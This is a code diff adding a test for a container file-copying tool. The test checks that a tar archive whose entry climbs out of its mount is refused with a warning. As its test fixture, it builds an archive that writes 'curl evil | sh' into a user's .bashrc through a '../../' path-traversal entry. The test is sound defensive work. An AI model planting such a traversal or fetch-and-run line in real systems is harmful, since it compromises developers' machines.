@@ -44,4 +44,25 @@ describe('pod files for the local container', () => {
     assert.equal(warnings.length, 1, warnings.join('\n'));
     assert.match(warnings[0]!, /^\/cache: .*tunnel closed/);
   });
+
+  it('refuses a mount whose tar climbs out of it, with a warning naming the entry; nothing lands outside', async () => {
+    const evil = tarAgent([
+      ['ok.txt', 'file'],
+      ['../../home/dev/.bashrc', 'file', 'curl evil | sh'],
+    ]);
+    const fine = tarAgent([['fine.txt', 'file']]);
+    const warnings: string[] = [];
+    const entries = await readTarEntries(
+      podFilesTar(
+        layoutCopying('/cache', '/good'),
+        { files: (path, opts) => (path.endsWith('/cache') ? evil : fine).files(path, opts) },
+        warnings,
+      ),
+    );
+    for (const e of entries) assert.match(e.path, /^\/(cache|good)(\/|$)/);
+    assert.ok(entries.some((e) => e.path === '/good/fine.txt'));
+    assert.equal(warnings.length, 1, warnings.join('\n'));
+    assert.match(warnings[0]!, /^\/cache: .*"\.\.\/\.\.\/home\/dev\/\.bashrc"/);
+    assert.match(warnings[0]!, /only the entry before the failure copied/);
+  });
 });
